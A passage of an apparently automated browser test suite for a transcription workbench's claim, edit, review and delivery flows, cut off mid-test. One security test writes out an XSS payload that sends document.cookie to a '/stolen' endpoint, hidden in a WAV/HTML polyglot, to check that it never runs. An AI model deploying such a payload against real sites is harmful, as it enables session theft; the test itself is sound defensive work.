// The workbench (/work) in a real browser (Debian's Chromium through playwright-core) against the
// service as tests run it: a human transcription order drafted by the user's own speech engine (an
// OpenAI-compatible server on loopback), claimed, heard, edited, saved, reloaded and submitted by a
// worker; sent back and approved by a reviewer; delivered to the customer's callback receiver with
// the worker's words. Every page passes axe; the run writes docs/screenshots/workbench-*.png.
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Browser, BrowserContext, Locator, Page } from 'playwright-core';
import { describeNeeding } from '../helpers/legs.js';
import { startService, type TestService } from '../helpers/service.js';
import { startMediaServer, wavFile, type MediaServer } from '../helpers/mediaServer.js';
import { startCallbackReceiver, type CallbackReceiver } from '../helpers/callbackReceiver.js';
import { startEngineServer, verboseJson, type EngineServer } from '../helpers/engineServer.js';
import { close, listen, waitFor } from '../helpers/net.js';
import { createServer } from 'node:http';
import { blankPdf, pngImage, startDocumentServer, type DocumentServer } from '../helpers/documents.js';
import { axeCheck, failOnPageProblems, launchBrowser, newContext, screenshot, takePageProblems } from '../helpers/browser.js';
import { openAiCompatibleEngine } from '../../src/engines/openaiCompatible.js';
import { getTask, tasksOfOrder } from '../../src/db/tasks.js';
import { MAX_WORK_TEXT } from '../../src/domain/humanWork/workText.js';
import { translatorsFrom } from '../../src/engines/translators.js';
import { hasLeg } from '../helpers/legs.js';
import { scannedPage } from '../helpers/pages.js';
import { placeOrder } from '../helpers/orders.js';

const OCR_LINES = ['The committee met on Tuesday morning to review the budget for the coming year.', 'The chair promised a clear answer next month.'];

const DRAFT_WORDS: Array<[string, number, number]> = [
  ['Hello', 1, 1.4],
  ['from', 1.5, 1.8],
  ['the', 1.9, 2],
  ['machine.', 2.1, 2.6],
  ['Second', 12, 12.5],
  ['sentence.', 12.6, 13.2],
];

describeNeeding('chromium', 'the workbench in Chromium', () => {
  failOnPageProblems();
  let service: TestService;
  let media: MediaServer;
  let receiver: CallbackReceiver;
  let engine: EngineServer;
  let docs: DocumentServer;
  let browser: Browser;
  const contexts: BrowserContext[] = [];
  const tokens: Record<string, string> = {};

  beforeAll(async () => {
    [media, receiver, engine, docs, browser] = await Promise.all([
      startMediaServer(),
      startCallbackReceiver(),
      startEngineServer(),
      startDocumentServer(),
      launchBrowser(),
    ]);
    engine.behaviour = { kind: 'transcript', body: verboseJson(DRAFT_WORDS) };
    service = await startService({
      engines: { speech: openAiCompatibleEngine({ baseUrl: engine.url, model: 'whisper-test' }), translators: await translatorsFrom({}) },
      rateLimits: { signInPerMinute: 10_000 },
    });
    for (const [name, skills] of [
      ['Ann', 'transcription:english'],
      ['Rita', 'review:english'],
      ['Fran', 'transcription:french'],
      ['Gus', 'transcription:german'],
      ['Tom', 'translation:english>french'],
      ['Olga', 'ocr:english'],
      ['Hana', 'transcription:english'],
      ['Lena', 'transcription:english'],
      ['Dora', 'transcription:english,translation:english>spanish,ocr:english'],
      ['Dirk', 'transcription:dutch'],
      ['Rudi', 'review:dutch'],
      ['Amal', 'transcription:arabic,translation:english>hebrew'],
      ['Wanda', 'transcription:english'],
      ['Pedro', 'transcription:english'],
      ['Vera', 'transcription:english'],
      ['Iris', 'transcription:english'],
    ] as const) {
      const created = await service.ops('POST', '/ops/workers', { name, skills });
      expect(created.status, JSON.stringify(created.body)).toBe(200);
      tokens[name] = created.body.sign_in_token;
    }
  });
  afterAll(async () => {
    for (const context of contexts) await context.close().catch(() => undefined);
    await browser?.close();
    await Promise.all([service?.close(), media?.close(), receiver?.close(), engine?.close(), docs?.close()]);
  });

  async function signIn(name: string): Promise<Page> {
    const context = await newContext(browser, service.baseUrl);
    contexts.push(context);
    const page = await context.newPage();
    await page.goto('/work/sign-in');
    await axeCheck(page);
    await page.getByLabel('Worker token').fill(tokens[name]!);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.waitForURL('**/work/queue');
    return page;
  }

  const textBox = (page: Page) => page.getByLabel('Transcript');
  /** The text the form sends: the word-level editor writes it into the form's field as the worker types. */
  const formText = (page: Page) => () => page.locator('#work-text').inputValue();
  const playerTime = (page: Page) => () => page.locator('#player').evaluate((a: HTMLAudioElement) => a.currentTime);

  /** The player plays (its time advances) and the hotkeys move it: pause, 5 s on and back, faster. Leaves it paused at 1.25×. */
  async function playerWorks(page: Page, box: Locator): Promise<void> {
    const time = playerTime(page);
    await box.click();
    const start = await time();
    await page.keyboard.press('Escape');
    await expect.poll(time, { timeout: 8_000 }).toBeGreaterThan(start + 0.5);
    await page.keyboard.press('Escape');
    await expect.poll(() => page.locator('#player').evaluate((a: HTMLAudioElement) => a.paused)).toBe(true);
    const paused = await time();
    await page.keyboard.press('Control+BracketRight');
    await expect.poll(time).toBeGreaterThanOrEqual(paused + 4.9);
    await page.keyboard.press('Control+BracketLeft');
    await expect.poll(time).toBeLessThan(paused + 0.5);
    await page.keyboard.press('Alt+Period');
    await expect.poll(() => page.locator('#speed').textContent()).toBe('1.25×');
    expect(await page.locator('#player').evaluate((a: HTMLAudioElement) => a.playbackRate)).toBe(1.25);
  }

  it("a worker claims, hears, edits, reloads, submits; a reviewer sends it back, then approves; the customer gets the worker's words", async () => {
    const account = await service.createAccount(20);
    const { orderId } = await placeOrder(service, {
      token: account.token,
      fields: { url: media.audio(40), language: 'english' },
      callbackUrl: receiver.url,
    });
    // The task opens once the engine's draft is in.
    const workTaskId = await waitFor(async () => (await tasksOfOrder(service.database.db, orderId))[0]?.id, 'the work task');

    // A worker without the skill never sees it.
    const fran = await signIn('Fran');
    expect(await fran.locator('main').textContent()).not.toContain(`order ${orderId}`);

    const ann = await signIn('Ann');
    await expect.poll(async () => (await ann.reload(), await ann.locator('main').textContent()), { timeout: 15_000 }).toContain(`order ${orderId}`);
    await axeCheck(ann);
    await screenshot(ann, 'workbench-queue');
    await ann.getByRole('button', { name: 'Claim next task' }).click();
    await ann.waitForURL(`**/work/tasks/${workTaskId}`);
    await axeCheck(ann);

    // The machine draft with its times, and segments that seek the player.
    await expect.poll(formText(ann)).toContain('[00:00:01] Hello from the machine.');
    expect(await formText(ann)()).toContain('[00:00:12] Second sentence.');
    await ann.getByRole('button', { name: /Second sentence/ }).click();
    await expect.poll(playerTime(ann)).toBeGreaterThanOrEqual(11.9);

    // The player plays under the page's real CSP, and its hotkeys move it; then timestamp, speaker, inaudible.
    await playerWorks(ann, textBox(ann));
    await textBox(ann).press('Control+End');
    await ann.keyboard.press('Alt+t');
    await ann.keyboard.press('Alt+2');
    await ann.keyboard.press('Alt+i');
    await expect.poll(formText(ann)).toMatch(/\[00:00:1\d\] Speaker 2: \[inaudible 00:00:1\d\] $/);
    expect(await ann.locator('#hotkeys').textContent()).toContain('Insert a timestamp');
    await screenshot(ann, 'workbench-editor');

    // An edit is saved on the server by itself and survives a reload.
    await textBox(ann).fill("[00:00:01] Hello, here are the worker's own words.");
    await expect.poll(async () => (await getTask(service.database.db, workTaskId))!.draft, { timeout: 10_000 }).toContain("worker's own words");
    // The database has it before the page reads the answer: the status follows a moment later.
    await expect.poll(() => ann.locator('#save-status').textContent()).toContain('Saved at');
    await ann.reload();
    await expect.poll(formText(ann)).toBe("[00:00:01] Hello, here are the worker's own words.");

    // Submit names what the order asked for and is missing (speaker labels), then takes the fix.
    await ann.getByRole('button', { name: 'Submit' }).click();
    await expect.poll(() => ann.getByRole('alert').first().textContent()).toContain('Speaker labels are missing');
    await axeCheck(ann);
    await textBox(ann).fill("[00:00:01] Speaker 1: Hello, here are the worker's own wrods.");
    await ann.getByRole('button', { name: 'Submit' }).click();
    await ann.waitForURL('**/work/queue');

    // The reviewer sees the diff against the draft and sends it back with a note.
    const rita = await signIn('Rita');
    await expect.poll(async () => (await rita.reload(), await rita.locator('main').textContent()), { timeout: 15_000 }).toContain(`order ${orderId}`);
    await rita.getByRole('button', { name: 'Claim next task' }).click();
    await rita.waitForURL('**/work/tasks/task-*-review-1');
    await playerWorks(rita, textBox(rita));
    expect((await rita.locator('.diff del').allTextContents()).join(' ')).toContain('machine.');
    expect((await rita.locator('.diff ins').allTextContents()).join(' ')).toContain('wrods.');
    await axeCheck(rita);
    await screenshot(rita, 'workbench-review');
    await rita.getByLabel('Note for the worker').fill('Spelling: "wrods".');
    await rita.getByRole('button', { name: 'Send back' }).click();
    await rita.waitForURL('**/work/queue');

    // The worker finds it among their tasks with the note, fixes it and submits again.
    const fixLink = ann.getByRole('link', { name: `Work: human transcription, order ${orderId}` });
    await expect.poll(async () => (await ann.reload(), await fixLink.count()), { timeout: 15_000 }).toBe(1);
    await fixLink.click();
    await expect.poll(() => ann.getByRole('alert').first().textContent()).toContain('Spelling: "wrods"');
    await textBox(ann).fill("[00:00:01] Speaker 1: Hello, here are the worker's own words.");
    await ann.getByRole('button', { name: 'Submit' }).click();
    await ann.waitForURL('**/work/queue');

    await expect.poll(async () => (await rita.reload(), await rita.locator('main').textContent()), { timeout: 15_000 }).toContain(`order ${orderId}`);
    await rita.getByRole('button', { name: 'Claim next task' }).click();
    await rita.waitForURL('**/work/tasks/task-*-review-2');
    await rita.getByRole('button', { name: 'Approve' }).click();
    await rita.waitForURL('**/work/queue');

    // The customer's callback, and the transcript it points to, hold the worker's words.
    const callback = await waitFor(() => receiver.received.find((c) => c.fields.order_id === String(orderId)), 'the callback', 30_000);
    expect(callback.fields.transcription_url).toContain(`/api/v4/orders/${orderId}/files/transcription`);
    const transcript = await fetch(`${callback.fields.transcription_url}&format=text`).then((r) => r.text());
    expect(transcript).toContain("Hello, here are the worker's own words.");
    // What the draft saved, on the order and in the metrics: the worker rewrote most of the engine's words.
    const rate = (await service.ops('GET', `/ops/orders/${orderId}`)).body.draft_edit_rate as number;
    expect(rate).toBeGreaterThan(0.5);
    expect(rate).toBeLessThan(2);
    expect(await (await fetch(`${service.baseUrl}/metrics`)).text()).toMatch(
      /^workbench_draft_edit_rate_count\{product="transcription",language="english"\} [1-9]/m,
    );

    // Paid on approval.
    await ann.goto('/work/earnings');
    await axeCheck(ann);
    expect(await ann.locator('#total-earned').textContent()).not.toBe('$0.00');
    await screenshot(ann, 'workbench-earnings');
  });

  it("edits word by word: each word carries its times, a click plays from it, the word heard is marked, edits keep the others' times, speakers are named once", async () => {
    const account = await service.createAccount(20);
    const { orderId } = await placeOrder(service, { token: account.token, fields: { url: media.audio(40), language: 'english' }, callbackUrl: receiver.url });
    const taskId = await waitFor(async () => (await tasksOfOrder(service.database.db, orderId))[0]?.id, 'the work task');
    const wanda = await signIn('Wanda');
    await wanda.goto(`/work/tasks/${taskId}`);
    await wanda.getByRole('button', { name: 'Claim' }).click();
    await wanda.waitForURL(`**/work/tasks/${taskId}`);
    const box = textBox(wanda);
    const word = (text: string) => box.locator('[data-start]', { hasText: new RegExp(`^${text.replace('.', '\\.')}$`) });
    const times = (text: string) => word(text).evaluate((w: HTMLElement) => [Number(w.dataset.start), Number(w.dataset.end)]);

    // Each word of the draft is an element with the engine's times.
    await expect.poll(() => box.locator('[data-start]').allTextContents()).toEqual(DRAFT_WORDS.map(([w]) => w));
    for (const [text, start, end] of DRAFT_WORDS) expect(await times(text)).toEqual([start, end]);

    // A click on a word plays from it.
    await word('Second').click();
    await expect.poll(playerTime(wanda)).toBeCloseTo(12, 1);
    // While the media plays, the word heard carries aria-current, one at a time.
    await wanda.keyboard.press('Escape');
    await expect.poll(() => box.locator('[aria-current="true"]').allTextContents(), { timeout: 5_000 }).toEqual(['sentence.']);
    await wanda.keyboard.press('Escape');
    expect(await box.locator('[aria-current]').count()).toBe(1);
    await axeCheck(wanda);

    // A word typed over gets times between its neighbours at once; the others keep theirs, through a save and a reload.
    await word('machine.').dblclick();
    await wanda.keyboard.type('computer');
    const typed = await times('computer.');
    expect(typed[0]).toBeGreaterThanOrEqual(2.1);
    expect(typed[1]).toBeLessThanOrEqual(2.6);
    expect(await word('computer.').getAttribute('data-confidence')).toBeNull();
    await expect.poll(async () => (await getTask(service.database.db, taskId))!.draft, { timeout: 10_000 }).toContain('the computer.');
    await wanda.reload();
    await expect.poll(() => box.locator('[data-start]').count()).toBe(6);
    for (const [text, start, end] of DRAFT_WORDS.filter(([w]) => w !== 'machine.')) expect(await times(text)).toEqual([start, end]);

    // Speakers are data: labels typed once, named once in the list, chosen per paragraph.
    await box.click();
    await box.press('Control+Home');
    for (let i = 0; i < '[00:00:01] '.length; i++) await wanda.keyboard.press('ArrowRight');
    await wanda.keyboard.press('Alt+1');
    await box.press('Control+End');
    await wanda.keyboard.press('Home');
    for (let i = 0; i < '[00:00:12] '.length; i++) await wanda.keyboard.press('ArrowRight');
    await wanda.keyboard.press('Alt+2');
    await expect.poll(formText(wanda)).toBe('[00:00:01] Speaker 1: Hello from the computer.\n\n[00:00:12] Speaker 2: Second sentence.');
    await wanda.getByLabel('Name of speaker 1').fill('Ada Lovelace');
    await wanda.getByLabel('Name of speaker 1').press('Tab');
    await expect.poll(formText(wanda)).toBe('[00:00:01] Ada Lovelace: Hello from the computer.\n\n[00:00:12] Speaker 2: Second sentence.');
    expect(await wanda.getByLabel('Speaker of paragraph 1').inputValue()).toBe('Ada Lovelace');
    // The second paragraph is Ada's too: chosen from the list, which merges the two speakers.
    await wanda.getByLabel('Speaker of paragraph 2').selectOption('Ada Lovelace');
    await expect.poll(formText(wanda)).toBe('[00:00:01] Ada Lovelace: Hello from the computer.\n\n[00:00:12] Ada Lovelace: Second sentence.');
    await wanda.getByRole('button', { name: 'Add a speaker' }).click();
    await expect.poll(() => wanda.getByLabel('Name of speaker 2').inputValue()).toBe('Speaker 2');
    await axeCheck(wanda);
    await screenshot(wanda, 'workbench-word-editor');
    await wanda.getByRole('button', { name: 'Submit' }).click();
    await wanda.waitForURL('**/work/queue');

    const rita = await signIn('Rita');
    await rita.goto(`/work/tasks/task-${orderId}-review-1`);
    await rita.getByRole('button', { name: 'Claim' }).click();
    // The reviewer sees the speaker's name among the changes.
    expect((await rita.locator('.diff ins').allTextContents()).join(' ')).toContain('Lovelace:');
    await rita.getByRole('button', { name: 'Approve' }).click();
    await rita.waitForURL('**/work/queue');

    // Delivered: every word timed, the kept ones at the engine's times, the speaker named in every paragraph.
    const callback = await waitFor(() => receiver.received.find((c) => c.fields.order_id === String(orderId)), 'the callback', 30_000);
    const json2 = await fetch(`${callback.fields.transcription_url}&format=json2`).then((r) => r.json());
    const segments = json2.segments as Array<{ speaker?: string; words: Array<{ text: string; start: number; end: number }> }>;
    expect(segments.map((s) => s.speaker)).toEqual(['Ada Lovelace', 'Ada Lovelace']);
    expect(segments.flatMap((s) => s.words.map((w) => [w.text, w.start, w.end]))).toEqual(
      DRAFT_WORDS.map(([w, start, end]) => (w === 'machine.' ? ['computer.', expect.any(Number), expect.any(Number)] : [w, start, end])),
    );
  });

  it("shows the order's terms beside the editor, offers them while typing, keeps the spell check off them, and marks a term changed away in the reviewer's diff", async () => {
    const account = await service.createAccount(20);
    const { orderId } = await placeOrder(service, {
      token: account.token,
      fields: { url: media.audio(40), language: 'english', vocabulary: 'machine, Zyphrex Cloud\nAda Lovelace' },
    });
    const taskId = await waitFor(async () => (await tasksOfOrder(service.database.db, orderId))[0]?.id, 'the work task');
    const vera = await signIn('Vera');
    await vera.goto(`/work/tasks/${taskId}`);
    await vera.getByRole('button', { name: 'Claim' }).click();
    await vera.waitForURL(`**/work/tasks/${taskId}`);
    expect(await vera.getByRole('region', { name: 'Terms of this order' }).getByRole('listitem').allTextContents()).toEqual([
      'machine',
      'Zyphrex Cloud',
      'Ada Lovelace',
    ]);
    const box = textBox(vera);
    // A term in the text is one the spell check knows.
    await expect.poll(() => box.locator('.term[spellcheck="false"]').allTextContents()).toEqual(['machine']);
    // Typing the start of a term offers it; Enter takes it as listed.
    await box.press('Control+End');
    await vera.keyboard.type(' Thanks to zyph');
    const offered = vera.getByRole('option', { name: /Zyphrex Cloud/ });
    await expect.poll(() => offered.getAttribute('aria-selected')).toBe('true');
    // CodeMirror takes no key for a completion in its first 75 ms open (so a key meant for the text is not taken for it).
    await vera.waitForTimeout(150);
    await vera.keyboard.press('Enter');
    await expect.poll(formText(vera)).toMatch(/Thanks to Zyphrex Cloud$/);
    // (A term of two words is drawn in pieces, one per word's own mark.)
    await expect.poll(async () => (await box.locator('.term[spellcheck="false"]').allTextContents()).join('')).toBe('machineZyphrex Cloud');
    await axeCheck(vera);
    // "machine" changed away from the customer's spelling: the reviewer's diff says so.
    await box.locator('[data-start]', { hasText: /^machine\.$/ }).dblclick();
    await vera.keyboard.type('computer');
    await expect.poll(formText(vera)).toContain('the computer.');
    // The order asks for speaker labels: one speaker, both paragraphs.
    for (const end of ['Control+Home', 'Control+End']) {
      await box.press(end);
      await vera.keyboard.press('Home');
      for (let i = 0; i < '[00:00:01] '.length; i++) await vera.keyboard.press('ArrowRight');
      await vera.keyboard.press('Alt+1');
    }
    await expect.poll(formText(vera)).toBe('[00:00:01] Speaker 1: Hello from the computer.\n\n[00:00:12] Speaker 1: Second sentence. Thanks to Zyphrex Cloud');
    await vera.getByRole('button', { name: 'Submit' }).click();
    await vera.waitForURL('**/work/queue');
    const rita = await signIn('Rita');
    await rita.goto(`/work/tasks/task-${orderId}-review-1`);
    await rita.getByRole('button', { name: 'Claim' }).click();
    const changed = rita.locator('.diff del.term-changed');
    expect(await changed.count()).toBe(1);
    expect(await changed.textContent()).toBe('machine. (a term of this order)');
    await axeCheck(rita);
  });

  it("keeps an older order's right-to-left override inside its term: the terms and the offered term's note read in order", async () => {
    const account = await service.createAccount(20);
    const { orderId } = await placeOrder(service, {
      token: account.token,
      fields: { url: media.audio(40), language: 'english', vocabulary: 'Zyphrex Cloud, Ada Lovelace' },
    });
    // Placed before such terms were refused (issue 51): the override stored as it was sent then.
    const terms = ['Zyphrex\u202E Cloud', 'Ada Lovelace'];
    await service.database.db.execute(sql`UPDATE orders SET params = jsonb_set(params, '{vocabulary}', ${JSON.stringify(terms)}::jsonb) WHERE id = ${orderId}`);
    const taskId = await waitFor(async () => (await tasksOfOrder(service.database.db, orderId))[0]?.id, 'the work task');
    const iris = await signIn('Iris');
    await iris.goto(`/work/tasks/${taskId}`);
    await iris.getByRole('button', { name: 'Claim' }).click();
    await iris.waitForURL(`**/work/tasks/${taskId}`);
    expect(await iris.locator('#terms > li > bdi').allTextContents()).toEqual(terms);
    // Whether a text is drawn left to right: its first character left of its last.
    const readsLeftToRight = (element: Locator) =>
      element.evaluate((e) => {
        const text = e.firstChild!;
        const box = (from: number) => {
          const range = document.createRange();
          range.setStart(text, from);
          range.setEnd(text, from + 1);
          return range.getBoundingClientRect().left;
        };
        return box(0) < box(text.textContent!.length - 1);
      });
    const box = textBox(iris);
    await box.press('Control+End');
    await iris.keyboard.type(' zyph');
    const offered = iris.getByRole('option', { name: /Zyphrex/ });
    await expect.poll(() => offered.getAttribute('aria-selected')).toBe('true');
    // The override reverses its own term's rest; the note after the term still reads "a term of this order".
    expect(await offered.locator('.cm-completionDetail').textContent()).toBe('a term of this order');
    expect(await readsLeftToRight(offered.locator('.cm-completionDetail'))).toBe(true);
  });

  it("keeps each worker's back-track, skip length and keys: a foot pedal's F8 plays, a refused key names its field", async () => {
    const account = await service.createAccount(20);
    const { orderId } = await placeOrder(service, { token: account.token, fields: { url: media.audio(60), language: 'english' } });
    const taskId = await waitFor(async () => (await tasksOfOrder(service.database.db, orderId))[0]?.id, 'the work task');
    const pedro = await signIn('Pedro');
    await pedro.getByRole('link', { name: 'Settings' }).click();
    await pedro.waitForURL('**/work/settings');
    await axeCheck(pedro);
    // One key for two actions is refused, naming both.
    await pedro.getByLabel(/^Play or pause/).fill('Alt+KeyN');
    await pedro.getByRole('button', { name: 'Save settings' }).click();
    expect(await pedro.getByRole('alert').textContent()).toContain('nextDoubt: Alt+KeyN is already the key of playPause');
    await pedro.getByLabel(/^Play or pause/).fill('F8');
    await pedro.getByLabel('Skip length of the back and forward keys (seconds)').fill('10');
    await pedro.getByLabel('Back-track when playing again (seconds)').fill('3');
    await pedro.getByRole('button', { name: 'Save settings' }).click();
    expect(await pedro.getByRole('status').textContent()).toContain('Settings saved.');

    await pedro.goto(`/work/tasks/${taskId}`);
    await pedro.getByRole('button', { name: 'Claim' }).click();
    await pedro.waitForURL(`**/work/tasks/${taskId}`);
    expect(await pedro.locator('#hotkeys').textContent()).toContain('F8');
    const time = playerTime(pedro);
    await textBox(pedro).click();
    // The pedal's key plays and pauses; the skip keys move by the worker's length.
    await pedro.keyboard.press('F8');
    await expect.poll(time, { timeout: 8_000 }).toBeGreaterThan(0.5);
    await pedro.keyboard.press('F8');
    await expect.poll(() => pedro.locator('#player').evaluate((a: HTMLAudioElement) => a.paused)).toBe(true);
    const paused = await time();
    await pedro.keyboard.press('Control+BracketRight');
    await expect.poll(time).toBeGreaterThanOrEqual(paused + 9.9);
    // Playing again rewinds by the back-track (3 s) before it plays on.
    const before = await time();
    await pedro.keyboard.press('F8');
    await pedro.keyboard.press('F8');
    expect(await time()).toBeLessThan(before - 2);
    // Escape is no longer the play key: nothing plays.
    await pedro.keyboard.press('Escape');
    await new Promise((r) => setTimeout(r, 300));
    expect(await pedro.locator('#player').evaluate((a: HTMLAudioElement) => a.paused)).toBe(true);
  });

  it('translation shows the source beside the target; OCR shows the page, with zoom', async () => {
    const account = await service.createAccount(50);
    const translation = await placeOrder(service, {
      token: account.token,
      path: 'translations',
      fields: { url: docs.serve('/letter.txt', 'Dear customer,\n\nyour order is ready.', 'text/plain'), translate_from: 'english', translate_to: 'french' },
    });
    const ocr = await placeOrder(service, {
      token: account.token,
      path: 'human-ocr',
      fields: { url: docs.serve('/page.png', pngImage(300, 200), 'image/png'), language: 'english' },
    });
    for (const id of [translation.body.order_id, ocr.body.order_id]) await waitFor(async () => (await tasksOfOrder(service.database.db, id))[0], 'the task');

    const tom = await signIn('Tom');
    await tom.getByRole('button', { name: 'Claim next task' }).click();
    await tom.waitForURL('**/work/tasks/**');
    expect(await tom.getByRole('region', { name: 'Source' }).textContent()).toContain('your order is ready.');
    // The translation is typed in the same editor as transcripts (CodeMirror), its text the form's value.
    const translationBox = tom.getByLabel('Translation');
    expect(await translationBox.getAttribute('contenteditable')).toBe('true');
    expect(await translationBox.getAttribute('lang')).toBe('fr');
    await translationBox.fill('Cher client, votre commande est prête.');
    await expect.poll(formText(tom)).toBe('Cher client, votre commande est prête.');
    await translationBox.press('Control+z');
    await expect.poll(formText(tom)).not.toBe('Cher client, votre commande est prête.');
    await axeCheck(tom);
    await screenshot(tom, 'workbench-translation');
    // Speech to translate: the translator hears it in the player.
    const spoken = await placeOrder(service, {
      token: account.token,
      path: 'translations',
      fields: { url: media.audio(30), translate_from: 'english', translate_to: 'french' },
    });
    await waitFor(async () => (await tasksOfOrder(service.database.db, spoken.body.order_id))[0], "the spoken translation's task");
    await tom.goto(`/work/tasks/task-${spoken.body.order_id}-work`);
    await tom.getByRole('button', { name: 'Claim' }).click();
    await tom.waitForURL(`**/work/tasks/task-${spoken.body.order_id}-work`);
    await playerWorks(tom, tom.getByLabel('Translation'));

    const olga = await signIn('Olga');
    await olga.getByRole('button', { name: 'Claim next task' }).click();
    await olga.waitForURL('**/work/tasks/**');
    const image = olga.getByRole('img', { name: /The page to type/ });
    await expect.poll(() => image.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(300);
    const width = () => image.evaluate((img: HTMLImageElement) => img.getBoundingClientRect().width);
    const before = await width();
    await olga.getByRole('button', { name: 'Zoom in' }).click();
    await expect.poll(width).toBeGreaterThan(before * 1.2);
    const pageText = olga.getByLabel('Text', { exact: true });
    expect(await pageText.getAttribute('contenteditable')).toBe('true');
    await pageText.fill('The committee met on Tuesday.');
    await expect.poll(formText(olga)).toBe('The committee met on Tuesday.');
    await axeCheck(olga);
    await screenshot(olga, 'workbench-ocr');

    // A scanned PDF: each of its pages drawn (in the sandbox) beside the text.
    const scanned = await placeOrder(service, {
      token: account.token,
      path: 'human-ocr',
      fields: { url: docs.serve('/scan.pdf', await blankPdf(2), 'application/pdf'), language: 'english' },
    });
    await waitFor(async () => (await tasksOfOrder(service.database.db, scanned.body.order_id))[0], 'the PDF task');
    await olga.goto('/work/queue');
    await olga.getByRole('button', { name: 'Claim next task' }).click();
    await olga.waitForURL(`**/work/tasks/task-${scanned.body.order_id}-work`);
    for (const n of [1, 2]) {
      const pageImage = olga.getByRole('img', { name: `The page to type: page ${n} of 2, order ${scanned.body.order_id}` });
      await pageImage.scrollIntoViewIfNeeded();
      // Drawn on request in a reader process: the first one also loads pdf.js and the canvas library.
      await expect.poll(() => pageImage.evaluate((img: HTMLImageElement) => img.naturalWidth), { timeout: 30_000 }).toBe(1400);
    }
    await axeCheck(olga);
  });

  it("a customer's media is only ever the audio its bytes are: a page with a WAV head plays as audio, one that turns into a page is never served, and opened directly neither runs a script", async () => {
    const account = await service.createAccount(20);
    const page =
      '<!doctype html><html><head><title>customer page</title></head><body><h1>Not audio</h1>' +
      `<script>document.title = 'pwned'; fetch('${media.url}/stolen?' + document.cookie, { mode: 'no-cors' });</script></body></html>`;
    const place = async (url: string) => {
      const { orderId } = await placeOrder(service, { token: account.token, fields: { url, language: 'english' } });
      await waitFor(async () => (await tasksOfOrder(service.database.db, orderId))[0], `the task of order ${orderId}`);
      return orderId;
    };
    // A WAV with a page appended, its server calling it text/html: a WAV by its bytes (accepted and charged as one).
    const polyglot = await place(docs.serve('/polyglot', Buffer.concat([wavFile(20), Buffer.from(page)]), 'text/html'));
    // Audio to the ranged reads that measure it, a page to the whole-file read that makes the order's copy.
    const turncoatServer = createServer((req, res) => {
      const wav = wavFile(20);
      if (!req.headers.range) return void res.writeHead(200, { 'content-type': 'text/html' }).end(page);
      res
        .writeHead(206, { 'content-type': 'audio/wav', 'content-range': `bytes 0-${Math.min(wav.length, 65_536) - 1}/${wav.length}` })
        .end(wav.subarray(0, 65_536));
    });
    const turncoat = await place(`${await listen(turncoatServer)}/turncoat.wav`);

    // A worker of its own: this test claims two tasks (the most one worker may hold).
    const hana = await signIn('Hana');
    const mediaOf = (orderId: number) => `/work/tasks/task-${orderId}-work/media`;
    await hana.goto(`/work/tasks/task-${polyglot}-work`);
    await hana.getByRole('button', { name: 'Claim' }).click();
    await hana.waitForURL(`**/work/tasks/task-${polyglot}-work`);
    await playerWorks(hana, textBox(hana));
    const served = await hana.request.get(mediaOf(polyglot));
    expect(served.headers()).toMatchObject({ 'content-type': 'audio/wav', 'x-content-type-options': 'nosniff', 'content-security-policy': 'sandbox' });

    await hana.goto(`/work/tasks/task-${turncoat}-work`);
    await hana.getByRole('button', { name: 'Claim' }).click();
    await hana.waitForURL(`**/work/tasks/task-${turncoat}-work`);
    await expect.poll(() => hana.locator('#player-problem').isVisible()).toBe(true);
    // The refusal is the one failed subresource of this page, as it must be.
    await expect.poll(() => takePageProblems().join('\n')).toMatch(new RegExp(`${mediaOf(turncoat)} answered 415`));
    expect((await service.ops('GET', `/ops/orders/${turncoat}`)).body.input_files?.media).toBeUndefined();

    // Opened on their own, neither is a page of the service: no customer markup, no script.
    for (const [orderId, status] of [
      [polyglot, 200],
      [turncoat, 415],
    ] as const) {
      const opened = await hana.goto(mediaOf(orderId));
      expect(opened!.status()).toBe(status);
      expect(await hana.title()).not.toBe('pwned');
      expect(await hana.evaluate(() => document.body?.innerHTML ?? '')).not.toContain('Not audio');
    }
    takePageProblems();
    expect(media.hits.filter((h) => h.startsWith('/stolen'))).toEqual([]);
    await close(turncoatServer);
  });

  it("an error page of the workbench is the workbench's, and names the field instead of a validator's output", async () => {
    const fran = await signIn('Fran');
    const missing = await fran.goto('/work/no-such-page');
    expect(missing!.status()).toBe(404);
    expect(await fran.locator('header nav[aria-label="Workbench"]').count()).toBe(1);
    expect(await fran.locator('header nav[aria-label="Account"]').count()).toBe(0);
    expect(await fran.locator('form#sign-out').getAttribute('action')).toBe('/work/sign-out');
    expect(await fran.getByRole('link', { name: 'Back to the queue' }).getAttribute('href')).toBe('/work/queue');
    await axeCheck(fran);
    // A malformed JSON submission: one sentence naming the field.
    const csrf = await fran.locator('form#sign-out input[name="csrf"]').inputValue();
    const answer = await fran.request.post('/work/tasks/task-1-work/submit', { data: { text: 42 }, headers: { 'x-csrf-token': csrf } });
    const body = await answer.text();
    expect(answer.status()).toBe(400);
    expect(body).toContain('text: must be text');
    expect(body).not.toMatch(/"code"|"path"|invalid_type/);
    expect(body).toContain('href="/work/queue"');
  });

  it('the queue lists soonest deadline first with length, time left and pay; captions open with their draft; words typed just before the tab closes are kept', async () => {
    const account = await service.createAccount(50);
    const place = async (path: string, seconds: number, turnaround: string) => {
      const { orderId } = await placeOrder(service, {
        token: account.token,
        path,
        fields: { url: media.audio(seconds), language: 'german', turnaround_time: turnaround },
      });
      await waitFor(async () => (await tasksOfOrder(service.database.db, orderId))[0], `the task of order ${orderId}`);
      return orderId;
    };
    // Placed later but due sooner: it leads the queue.
    const later = await place('transcriptions', 90, '5_days');
    const sooner = await place('captions', 30, '3_days');

    const gus = await signIn('Gus');
    const rows = gus.getByRole('table').last().getByRole('row');
    await expect.poll(() => rows.count()).toBe(3); // the heading row and the two tasks
    const first = (await rows.nth(1).getByRole('cell').allTextContents()).map((c) => c.trim());
    const second = (await rows.nth(2).getByRole('cell').allTextContents()).map((c) => c.trim());
    expect(first.slice(0, 3)).toEqual([`Work: captions, order ${sooner}`, 'transcription:german', '0:30']);
    expect(second.slice(0, 3)).toEqual([`Work: human transcription, order ${later}`, 'transcription:german', '1:30']);
    expect(first[3]).toMatch(/^(71 h 5\d|72 h 0) min$/);
    expect(second[3]).toMatch(/^(119 h 5\d|120 h 0) min$/);
    for (const row of [first, second]) expect(row[4]).toMatch(/^\$\d+\.\d\d$/);
    expect(first[4]).not.toBe('$0.00');

    // Claim next task takes the captions; their editor is the transcript editor with the draft.
